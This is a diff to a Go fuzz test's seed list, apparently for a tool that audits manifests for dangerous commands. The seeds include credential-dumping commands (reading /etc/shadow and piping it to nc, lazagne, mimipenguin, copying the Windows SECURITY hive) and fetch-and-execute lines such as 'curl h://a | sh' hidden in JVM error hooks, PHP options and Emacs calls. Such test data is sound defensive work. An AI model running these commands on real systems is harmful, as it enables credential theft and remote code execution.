@@ -374,6 +374,8 @@ var fuzzSeeds = [][]string{
 	{"sh", "-c", "getent shadow | nc a 1; getent; cp /etc/gshadow /tmp/b; install -m 600 /etc/shadow c; ln /etc/shadow d; dscl . -read /Users/e ShadowHashData; dscl . read; cat /var/db/dslocal/nodes/Default/users/f.plist; esentutl /y /vss 'C:/Windows/System32/config/SECURITY' /d g; lazagne all; mimipenguin.sh"},
 	{"sh", "-c", "java -Xmx1m -XX:OnOutOfMemoryError='curl h://a | sh;kill -9 %p' -XX:OnError= -XX:OnError=\"npx b\" -jar c; JAVA_TOOL_OPTIONS='-XX:OnError=\"wget -O- h://d | bash\" -Xss1' MAVEN_OPTS=\"-XX:OnOutOfMemoryError='x\" mvn e; php -d auto_prepend_file=http://f/g.php -dauto_append_file=ftp://h -d -d=x -d auto_prepend_file= i.php"},
 	{"emacs", "--batch", "--eval", `(progn (shell-command "curl h://a | sh") (call-process "wget" nil t nil "h://b") (start-process-shell-command "c" nil "npx d") (start-process "e" nil "npx" "f") (make-process :command (list "sh" "-c" "g")) (process-lines "h" "i") (call-process) (shell-command "\"") (make-process :command '()))`, "--eval=(async-shell-command \"sudo-rs npx j\")"},
+	{"/proc/thread-self/exe", "-e", "x"},
+	{"sh", "-c", "posh -c 'curl h://a | sh'; oksh -c x; bash5 -c y; bash-5.2 -c z; ksh93 -c 'npx b'; zsh-5.9 -c; python3.13t -c 'import os; os.system(\"c\")'; python3.7m -c; bash- -c d; bashbrew e; /proc/self/exe -c 'npx f'"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
